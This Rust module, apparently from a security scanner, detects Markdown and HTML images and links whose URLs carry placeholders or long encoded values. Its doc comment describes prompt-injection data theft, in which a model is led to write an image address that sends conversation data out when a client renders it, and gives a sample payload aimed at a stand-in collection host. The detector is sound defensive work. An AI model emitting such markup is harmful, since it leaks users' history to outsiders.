//! Images and links that carry data out.
//!
//! **What it does.** Flags images and links, in Markdown and HTML, whose address has a place for data: a placeholder in
//! the query, or a long encoded value.
//!
//! **Why.** A client that shows an image fetches it at once: whatever the model was led to put into the address is sent
//! without a click. Ordinary badges and pictures have no such place and are left alone.
//!
//! **Example.** `![x](https://collect.example.net/p?d=BASE64_OF_HISTORY)`

use portcullis_sdk::{Replacement, Segment, Severity};

use super::Declared;
use crate::report::{Found, Report};

pub(super) const RULES: &[Declared] =
    &[("exfiltration-markup", Severity::High, "An image or link whose address takes in data.")];

/// What an address of an image or link stands behind.
const OPENERS: [&str; 4] = ["](http", "src=\"http", "src='http", "href=\"http"];

/// Looks at one segment.
pub(crate) fn look(index: usize, segment: &Segment, report: &mut Report<'_>) {
    if !segment.text.contains('=') || !segment.text.contains('?') {
        return;
    }
    for opener in OPENERS {
        for start in memchr::memmem::find_iter(segment.text.as_bytes(), opener) {
            let from = start + opener.len() - 4;
            let Some(rest) = segment.text.get(from..) else { continue };
            let length =
                rest.find(|c: char| c.is_whitespace() || matches!(c, '"' | '\'' | ')' | '>')).unwrap_or(rest.len());
            let Some(url) = rest.get(..length) else { continue };
            // A client fetches an image by itself; a link waits for a click.
            let shown = opener.starts_with("src") || is_markdown_image(&segment.text, start);
            if takes_data(url, shown) {
                let ranges = vec![(from..from + length, Replacement::Marker)];
                let message = "the address has a place for data".to_owned();
                let severity = Severity::High;
                report.flag(&Found { rule: "exfiltration-markup", severity, message, index, segment, ranges });
                return;
            }
        }
    }
}

/// True where the closing bracket at `end` ends the label of an image.
fn is_markdown_image(text: &str, end: usize) -> bool {
    text.get(..end)
        .and_then(|head| head.rfind('['))
        .is_some_and(|open| text.get(..open).is_some_and(|head| head.ends_with('!')))
}

/// True where a value of the query is a placeholder or a long encoded text.
fn takes_data(url: &str, shown: bool) -> bool {
    /// Signatures of CDN addresses are as long; their parameters say what they are.
    const LONG: usize = 64;
    let Some((_, query)) = url.split_once('?') else { return false };
    query.split('&').filter_map(|pair| pair.split_once('=')).any(|(name, value)| {
        let placeholder = value.contains(['{', '[', '$', '<'])
            || value.len() >= 4
                && value.bytes().all(|byte| byte.is_ascii_uppercase() || byte.is_ascii_digit() || byte == b'_')
                && value.bytes().any(|byte| byte.is_ascii_uppercase());
        let name = name.to_ascii_lowercase();
        let signature = ["sig", "hash", "token", "policy", "credential", "expires", "key", "state", "code"];
        let signed = signature.iter().any(|word| name.contains(word));
        let encoded = shown
            && value.len() >= LONG
            && !signed
            && value.bytes().all(|b| b.is_ascii_alphanumeric() || b"+/=_-".contains(&b));
        placeholder || encoded
    })
}
